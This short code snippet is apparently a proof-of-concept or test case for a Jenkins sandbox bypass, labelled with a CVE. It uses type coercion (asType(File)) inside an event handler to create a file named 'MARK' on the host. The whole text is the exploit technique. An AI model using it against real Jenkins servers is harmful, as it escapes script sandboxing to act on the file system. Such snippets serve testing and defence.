// CVE-2017-1000505 (Jenkins: type coercion makes files)
// asType is 'as' by name
event X {
    on { 'a' }
    as {
        ['MARK'].asType(File).createNewFile()
    }
}
